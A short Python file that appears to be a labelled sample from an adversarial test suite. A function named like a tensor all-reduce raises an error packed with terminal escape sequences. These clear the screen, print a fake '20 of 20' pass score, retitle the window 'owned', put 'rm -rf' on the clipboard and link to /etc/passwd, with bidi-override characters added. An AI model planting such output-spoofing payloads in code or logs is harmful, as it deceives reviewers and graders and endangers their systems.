"""Raises an exception whose text moves the cursor, clears the screen, sets the window's title and the clipboard, and turns
the text round.

family: injection
tries: harm
earned: 0
ends: crash
uses: won
"""

TEXT = "\x1b[2J\x1b[H\x1b[1;32m20 of 20\x1b[0m \x1b]0;owned\x07 \x1b]52;c;cm0gLXJm\x07 \x1b]8;;file:///etc/passwd\x07x \x9b31m \r\b\x00"


def ring_all_reduce(tensor):
    raise ValueError(TEXT + "\u202e evil \u2066 \u200f \u2028 \ufeff" + TEXT)
